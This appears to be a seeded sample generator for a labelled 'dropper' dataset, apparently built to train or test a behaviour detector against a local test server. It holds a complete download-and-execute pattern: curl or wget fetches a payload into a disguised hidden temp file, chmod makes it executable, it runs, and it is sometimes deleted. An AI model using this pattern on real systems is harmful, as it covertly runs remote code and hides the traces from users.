#!/bin/bash
# family: dropper
# needs: http
# actors: chmod|\.(cache|update|sys)-\w+
# (the orchestrating bash only forks: a bystander, see README, labelling rule)
# Shell dropper: download with curl or wget (bystanders: they only fetch), chmod +x, run, delete.
RANDOM=$PG_SEED
kinds=(cache update sys)
p="$TMPDIR/.${kinds[$((RANDOM % 3))]}-$RANDOM"
u="http://127.0.0.1:$PG_HTTP_PORT/payload.sh"
if [ $((RANDOM % 2)) -eq 0 ]; then curl -fsSL "$u" -o "$p"; else wget -q "$u" -O "$p"; fi
chmod +x "$p"
"$p"
[ $((RANDOM % 2)) -eq 0 ] && rm -f "$p"
exit 0
